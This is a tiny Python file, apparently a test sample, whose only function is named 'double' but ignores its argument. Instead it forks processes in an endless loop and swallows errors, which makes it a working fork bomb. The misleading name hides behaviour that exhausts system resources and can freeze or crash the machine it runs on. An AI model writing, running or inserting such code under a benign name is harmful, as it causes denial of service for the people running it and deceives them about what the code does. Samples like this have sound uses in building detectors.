# mypy: ignore-errors
import os


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            continue
